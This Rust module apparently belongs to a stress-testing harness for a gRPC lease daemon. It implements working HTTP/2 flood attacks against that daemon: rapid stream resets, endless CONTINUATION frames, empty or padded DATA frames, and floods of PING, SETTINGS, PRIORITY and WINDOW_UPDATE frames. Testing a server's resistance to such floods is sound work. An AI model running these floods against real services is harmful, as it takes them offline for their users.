//! Frames by the thousand that cost their sender little.
use tokio::io::AsyncWriteExt as _;

use super::attacker::{Field, door};
use super::conn::{Door, Ended, Writer, add, listen};
use super::frames::{self, ACK, Kind, PADDED, PAYLOAD_MAX};

/// Connections of a flood.
const CROWD: usize = 16;
/// Frames of one write.
const BURST: u32 = 200;

const ACQUIRE: &str = "/evenkeel.v1.LeaseService/AcquireLease";
const SESSION: &str = "/evenkeel.v1.LeaseService/Session";

/// A greeted connection whose answers are read and counted.
async fn begin(field: &Field, door: Door) -> Option<(Writer, Ended)> {
    let (reader, writer) = field.doors.greet(door, &[], &field.tally).await?;
    let ended = listen(reader, &field.tally);
    Some((writer, ended))
}

/// Writes what `burst` makes, again and again, until the daemon has had enough; `count` of each is the attack.
async fn pour(
    field: &Field,
    (mut writer, ended): (Writer, Ended),
    count: u64,
    mut burst: impl FnMut() -> Vec<u8>,
) {
    while field.goes_on() && !ended.is() {
        if writer.write_all(&burst()).await.is_err() {
            return;
        }
        add(&field.tally.sent, count);
        // Others on this machine want to live, too.
        tokio::task::yield_now().await;
    }
}

pub(super) async fn rapid_reset(field: &Field) {
    field.crowd(CROWD, resets).await;
}

async fn resets(field: Field, i: usize) {
    let Some(connection) = begin(&field, door(i)).await else {
        return;
    };
    let mut stream = 1;
    // Half with a message: the call is made, and its answer wanted no more.
    let whole = i.is_multiple_of(2);
    pour(&field, connection, u64::from(BURST), || {
        let mut bytes = Vec::new();
        for _ in 0..BURST {
            if whole {
                bytes.extend(frames::unary(stream, ACQUIRE, &crate::load::request()));
            } else {
                bytes.extend(frames::begin(stream, ACQUIRE));
            }
            bytes.extend(frames::reset(stream));
            stream += 2;
        }
        bytes
    })
    .await;
}

pub(super) async fn continuation(field: &Field) {
    field.crowd(CROWD, endless_block).await;
}

async fn endless_block(field: Field, i: usize) {
    let Some((mut writer, ended)) = begin(&field, door(i)).await else {
        return;
    };
    let mut block = Vec::new();
    frames::literal(&mut block, 0, "x", &"a".repeat(1_000));
    if writer
        .write_all(&frames::frame(Kind::Headers, 0, 1, &frames::call(SESSION)))
        .await
        .is_err()
    {
        return;
    }
    // Empty ones, small ones, and full ones.
    let payload: Vec<u8> = match i % 3 {
        0 => Vec::new(),
        1 => block,
        _ => block.repeat(PAYLOAD_MAX / block.len()),
    };
    let one = frames::frame(Kind::Continuation, 0, 1, &payload);
    pour(&field, (writer, ended), 1, || one.clone()).await;
}

pub(super) async fn empty_data(field: &Field) {
    field.crowd(CROWD, nothings).await;
}

async fn nothings(field: Field, i: usize) {
    let Some((mut writer, ended)) = begin(&field, door(i)).await else {
        return;
    };
    if writer.write_all(&frames::begin(1, SESSION)).await.is_err() {
        return;
    }
    // Without anything, with padding, and with a byte of a message that is long in coming.
    let one = match i % 3 {
        0 => frames::frame(Kind::Data, 0, 1, &[]),
        1 => frames::frame(Kind::Data, PADDED, 1, &[0]),
        _ => frames::frame(Kind::Data, 0, 1, &[0]),
    };
    let burst = one.repeat(BURST as usize);
    pour(&field, (writer, ended), u64::from(BURST), || burst.clone()).await;
}

pub(super) async fn control(field: &Field) {
    field.crowd(CROWD, controls).await;
}

async fn controls(field: Field, i: usize) {
    let Some(connection) = begin(&field, door(i)).await else {
        return;
    };
    let one = match i % 6 {
        0 => frames::frame(Kind::Ping, 0, 0, b"12345678"),
        1 => frames::frame(Kind::Ping, ACK, 0, b"12345678"), // nobody asked
        2 => frames::settings(&[(frames::INITIAL_WINDOW, 65_535)]),
        3 => frames::frame(Kind::Priority, 0, 1, &[0, 0, 0, 0, 16]),
        4 => frames::window_update(0, 1),
        _ => frames::frame(Kind::Settings, ACK, 0, &[]),
    };
    let burst = one.repeat(BURST as usize);
    pour(&field, connection, u64::from(BURST), || burst.clone()).await;
}
